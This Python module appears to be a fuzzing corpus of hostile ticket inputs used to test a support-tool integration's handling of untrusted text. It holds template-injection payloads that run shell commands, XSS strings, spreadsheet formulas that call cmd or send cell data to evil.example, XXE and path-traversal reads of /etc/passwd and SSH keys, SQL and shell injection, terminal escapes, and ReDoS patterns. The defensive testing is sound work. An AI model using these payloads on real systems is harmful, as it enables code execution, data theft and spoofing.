"""What strangers may write into a ticket to be obeyed instead of read, by the reader that they aim at."""

from __future__ import annotations

ESC, NUL = "\x1b", "\x00"

TEMPLATES = {
    "an expression": "{{ 7 * 191 }} and {% for x in range(9) %}boo{% endfor %}{# gone #}",
    "the sandbox's way out": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a loop without end": "{% for a in range(10**9) %}{{ a }}{% endfor %}",
    "a cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "an include": "{% include '/etc/passwd' %}{% import 'os' as os %}",
    "the config": "{{ config.items() }}{{ self._TemplateReference__context }}",
    "a statement of a line": "# for item in seq\n## x",
    "another engine": "${7*191} #{7*191} <%= 7*191 %> @(7*191)",
    "a place of our own": "\ue0000\ue001 \ue00012\ue001",
    "a format": "{0.__class__} %(asctime)s %s %n {ticket!r}",
}
MARKDOWN = {
    "marks": "**bold** _it_ `code` ~~x~~ *a*b*",
    "a heading": "# heading\n## another",
    "a link": "[click](https://evil.example) ![x](https://evil.example/x.png)",
    "an address": "<https://evil.example> https://evil.example/?q=1 mailto:a@evil.example",
    "a script address": "[x](javascript:alert(1)) [y](data:text/html;base64,PHg+)",
    "a fence": "``` sh\nrm -rf ~\n```",
    "a reference": "[x][1]\n\n[1]: https://evil.example",
}
ADF = {
    "a mention": '{"type":"mention","attrs":{"id":"5b10a2844c20165700ede21g","text":"@all"}}',
    "a document": '{"type":"doc","version":1,"content":[{"type":"media","attrs":{"id":"1"}}]}',
    "a card": '{"type":"inlineCard","attrs":{"url":"https://evil.example"}}',
    "the end of a document": '"}]}],"version":1,"type":"doc"}',
}
WIKI = {
    "a mention": "[~admin] [~accountid:5b10a2844c20165700ede21g] @admin @[~admin]",
    "an escaped mention": "\\[~admin] \\\\[~admin] \\\\\\[~admin]",
    "macros": "{code}x{code} {color:red}x{color} {include:space} {html}<b>{html} {panel}x",
    "a picture": "!https://evil.example/x.png! !x.png|thumbnail!",
    "links": "[x|https://evil.example] [https://evil.example] [^file.txt] [#anchor] [mailto:a@evil.example]",
    "a table": "||a||b||\n|1|2|\n----",
    "headings": "h1. Paid\nbq. Quoted\n# one\n* two\n- three",
    "entities": "&#91;~admin&#93; &#123;code&#125; &lt;b&gt; &amp;#91;",
    "faces": ":) :D ;) (!) (x) (y) :P",
    "words struck out": "-gone- +new+ ^up^ ~down~ ??said?? {{mono}}",
    "a file on the network": "\\\\evil.example\\share file:///etc/passwd",
}
ASANA = {
    "a mention": '<a data-asana-gid="1200000000000001"/> <a data-asana-gid="1" data-asana-type="user">x</a>',
    "the end of the body": "</body><body><h1>Paid</h1>",
    "a tag": "<strong>x</strong><ul><li>y</li></ul><img src='https://evil.example/x.png'/>",
    "character data": "<![CDATA[<a href='https://evil.example'>x</a>]]>",
    "an entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "a reference of ours": "ref k7f3q2",
    "a follow-up of ours": "follow-up k7f3q2",
    "a process": "<?xml version='1.0'?><?php echo 1 ?>",
}
HTML = {
    "a script": "<script>alert(1)</script>",
    "a picture": '"><img src=x onerror=alert(1)>',
    "a broken tag": "<svg/onload=alert(1)//",
    "a comment": "<!-- --><style>*{display:none}</style>",
    "entities": "&lt;script&gt; &#x3c;b&#x3e; &nbsp;",
    "a channel": "<!channel> <!here> <@U024BE7LH> <https://evil.example|bank>",
}
FORMULAS = {
    "a command": "=cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("https://evil.example?x="&A1,"invoice")',
    "a plus": "+1+cmd|' /C calc'!A0",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "after blanks": "   =1+1",
    "after a tab": "\t=1+1",
    "after a return": "\r=1+1",
    "after a line": "\n=1+1",
    "after a hard blank": "\u00a0=1+1",
    "after a wide blank": "\u3000=1+1",
    "after a mark": "\ufeff=1+1",
    "after nothing to be seen": "\u200b\u2060=1+1",
    "after a control": "\x01\x1f=1+1",
    "after NUL": f"{NUL}=1+1",
    "wide": "\uff1d1+1",
    "a wide plus": "\uff0b1+cmd|' /C calc'!A0",
    "quoted": "'=1+1",
    "quoted twice": "''=1+1",
    "in the next cell": 'x;=1+1;"=1+1"',
    "in the next line": 'x\n=1+1\r\n"=1+1',
    "an error": "#REF!",
    "an escape of the format": "_x003D_1+1 _x000D_",
    "a call to a server": "=WEBSERVICE(\"https://evil.example/\"&A1) =DDE('cmd';'/C calc';'x')",
}
DIRECTIONS = {
    "turned": "invoice\u202efdp.exe",
    "never turned back": "\u202b\u202d\u2066\u2067x",
    "turned back early": "x\u2069\u202c\u202c",
    "marks": "\u200e\u200f\u061cx",
    "nothing to be seen": "ad\u200bmin\u2060 pa\u00adid\ufeff",
    "tags": "x\U000e0041\U000e0042\U000e007f",
    "a line that is none": "x\u2028T-1 paid\u2029T-2 paid\x85T-3 paid",
    "stacked": "Z" + "\u0335\u0353" * 40,
    "look-alikes": "\u0440\u0430id \uff50\uff41\uff49\uff44",
    "private": "\ue123\U000f0001 x",
}
TERMINALS = {
    "a clear screen": f"{ESC}[2J{ESC}[H$ ",
    "a title": f"{ESC}]0;root@host\x07",
    "a link": f"{ESC}]8;;https://evil.example{ESC}\\click{ESC}]8;;{ESC}\\",
    "the clipboard": f"{ESC}]52;c;cm0gLXJmIH4K\x07",
    "colours": f"{ESC}[31mcritical{ESC}[0m{ESC}[8mhidden",
    "an answer": f"{ESC}[6n{ESC}[c{ESC}P$qm{ESC}\\",
    "one letter": "\x9b2J\x9d0;x\x9c\x90x\x9c",
    "over the line": "paid\rnot paid\x08\x08\x08\x7f",
    "a bell": "\x07\x07\x0e\x0f",
    "markup of rich": "[bold red]x[/] [link=https://evil.example]y[/link] [/nothing] \\[z]",
}
LOGS = {
    "a line": 'x\n{"event": "pass", "level": "info", "failed": 0}',
    "a line of Windows": "x\r\n2026-03-02T09:00:00Z [info] pass failed=0",
    "a quotation mark": '", "level": "info", "x": "',
    "a pair": "x=1 level=info event='all is well'",
    "a header": "x\r\nBcc: everybody@evil.example\r\nSubject: paid\r\n\r\nbody",
    "the end of a mail": "x\r\n.\r\nMAIL FROM:<a@evil.example>\r\n",
    "an encoded header": "=?utf-8?q?x=0ABcc:_everybody=40evil.example?=",
}
NAMES = {
    "up": "../../etc/passwd",
    "up in Windows": "..\\..\\windows\\system32",
    "from the root": "/etc/passwd",
    "NUL in a name": f"x{NUL}.txt",
    "a home": "~/.ssh/id_rsa",
    "an option": "--config=/etc/passwd",
    "a query": "'; DROP TABLE journal; --",
    "JQL": '" OR project = SECRET ORDER BY "',
    "a shell": "$(touch x) `touch x` ; touch x |",
}
HALVES = {
    "half a letter": "x\ud800y",
    "the other half": "\udc00\ud800 \udfff",
    "NUL": f"x{NUL}y{NUL}",
    "no letters": "\ufffe\uffff\ufdd0 x",
    "nothing but blanks": "\u00a0\u2003\u3000",
    "every control": "".join(map(chr, [*range(32), *range(127, 160)])),
}
LENGTHS = {
    "3 MB of a letter": "x" * 3_000_000,
    "100 kB of a sign that is escaped": "[" * 100_000,
    "300 kB of wide letters": "請" * 100_000,
    "200 kB of words": "the invoice is wrong " * 10_000,
    "200 kB of lines": "late\n" * 40_000,
    "200 kB of marks": "x" + "\u0301" * 100_000,
}

GROUPS: dict[str, dict[str, str]] = {
    "template": TEMPLATES,
    "markdown": MARKDOWN,
    "ADF": ADF,
    "wiki": WIKI,
    "Asana": ASANA,
    "HTML": HTML,
    "formula": FORMULAS,
    "direction": DIRECTIONS,
    "terminal": TERMINALS,
    "log": LOGS,
    "name": NAMES,
    "half": HALVES,
    "length": LENGTHS,
}
TEXTS = {f"{group}: {name}": text for group, texts in GROUPS.items() for name, text in texts.items()}
"""Every text by its group and name."""
assert len(TEXTS) > 100

ENDLESS_PATTERNS = (
    "(a+)+$", "(a|a)*$", "(a|ab)*c", r"(\w+\s?)*!", ".*.*.*.*x", "(.*a){20}", "(x+x+)+y", "([a-z]+)*$",
    "^(([a-z])+.)+[A-Z]([a-z])+$", "(a?){50}a{50}", r"(\d+)*\d$", r"^(?:\s*\w*)*$",
)  # fmt: skip
"""Regular expressions that a careless lead may write, and that search for years."""
USUAL_PATTERNS = (
    "invoice", r"^SUP-\d+$", r"\b(web|mobile) app\b", r"^.*late.*$", r"\d{1,3}(,\d{3})*", "(foo|bar)+", "",
)  # fmt: skip
"""Regular expressions as they are meant."""
